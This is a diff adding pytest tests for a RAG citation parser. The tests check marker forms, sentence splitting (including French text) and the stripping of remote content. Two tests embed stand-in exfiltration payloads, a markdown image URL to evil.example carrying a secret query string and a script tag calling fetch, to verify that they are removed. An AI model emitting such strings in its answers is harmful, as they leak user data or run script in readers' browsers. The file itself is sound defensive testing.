@@ -1,0 +1,105 @@
+"""Parsing citation markers out of answers (rag.citations)."""
+
+from __future__ import annotations
+
+import pytest
+
+from rag.citations import ParsedSentence, keep_valid, marker_numbers, parse_answer, strip_remote_content
+
+
+@pytest.mark.parametrize(
+    ("marker", "numbers"),
+    [
+        ("[1]", (1,)),
+        ("[1, 3]", (1, 3)),
+        ("[1,3]", (1, 3)),
+        ("[1][2]", (1, 2)),
+        ("[1] [2]", (1, 2)),
+        ("【1】", (1,)),
+        ("[^1]", (1,)),
+        ("[Source 1]", (1,)),
+        ("[Passage 2]", (2,)),
+        ("[Sources 1, 4]", (1, 4)),
+        ("[1-3]", (1, 2, 3)),
+        ("[2–4]", (2, 3, 4)),
+        ("[1; 2]", (1, 2)),
+        ("[3][1][3]", (3, 1)),
+    ],
+)
+def test_marker_forms(marker: str, numbers: tuple[int, ...]) -> None:
+    assert parse_answer(f"Paris is the capital {marker}.") == [ParsedSentence("Paris is the capital.", numbers)]
+
+
+@pytest.mark.parametrize("text", ["It was listed (1).", "In [2023] it grew.", "See [note]."])
+def test_things_that_are_not_markers_stay_in_the_text(text: str) -> None:
+    assert parse_answer(text) == [ParsedSentence(text, ())]
+
+
+def test_a_runaway_range_keeps_only_its_ends() -> None:
+    assert marker_numbers("a [1-999] b") == (1, 999)
+
+
+def test_markers_after_the_period_belong_to_the_sentence() -> None:
+    assert parse_answer("Paris is the capital. [1] It is large. [2][3]") == [
+        ParsedSentence("Paris is the capital.", (1,)),
+        ParsedSentence("It is large.", (2, 3)),
+    ]
+
+
+def test_markers_before_the_period_and_mid_sentence() -> None:
+    assert parse_answer("Paris [1] is the capital of France [2]. It is big [3]!") == [
+        ParsedSentence("Paris is the capital of France.", (1, 2)),
+        ParsedSentence("It is big!", (3,)),
+    ]
+
+
+def test_decimals_and_abbreviations_do_not_split() -> None:
+    text = "Le taux est de 29,3 % [1]. Il était de 3.5 % en 2020 [2]. M. Dupont et Mme Durand l’ont confirmé [3]."
+    assert [s.text for s in parse_answer(text)] == [
+        "Le taux est de 29,3 %.",
+        "Il était de 3.5 % en 2020.",
+        "M. Dupont et Mme Durand l’ont confirmé.",
+    ]
+
+
+def test_french_punctuation_ellipsis_and_lines() -> None:
+    text = "Vraiment ? [1] Oui… [2]\n- Premier point [3]\n1. Deuxième point [4]\n[5]"
+    assert parse_answer(text) == [
+        ParsedSentence("Vraiment ?", (1,)),
+        ParsedSentence("Oui…", (2,)),
+        ParsedSentence("- Premier point", (3,)),
+        ParsedSentence("1. Deuxième point", (4, 5)),
+    ]
+
+
+def test_sentences_without_markers_are_kept() -> None:
+    assert parse_answer("I could not find this information in the documents.") == [
+        ParsedSentence("I could not find this information in the documents.", ())
+    ]
+
+
+def test_keep_valid_drops_numbers_outside_the_passages() -> None:
+    assert keep_valid((0, 1, 3, 4, 7), 4) == (1, 3, 4)
+    assert keep_valid(parse_answer("A fact [2][9].")[0].numbers, 3) == (2,)
+
+
+def test_markdown_images_and_img_tags_are_removed() -> None:
+    text = (
+        "Paris ![pixel](http://evil.example/p.png?q=secret) is the capital [1]. "
+        'Look <img src="http://evil.example/x.png" onerror="x"> here ![ref][1] [2].\n'
+        "[1]: http://evil.example/y.png\n"
+        "<IMG\nsrc=http://evil.example/z.png>Done [1]."
+    )
+    cleaned = strip_remote_content(text)
+    assert "evil" not in cleaned
+    assert [s.text for s in parse_answer(text)] == ["Paris is the capital.", "Look here.", "Done."]
+
+
+def test_script_and_iframe_elements_are_removed_with_their_content() -> None:
+    cleaned = strip_remote_content('A <script>fetch("http://evil")</script>B <iframe src="http://evil"></iframe>C')
+    assert cleaned == "A B C"
+
+
+def test_empty_answer() -> None:
+    assert parse_answer("") == []
+    assert parse_answer("  \n ") == []
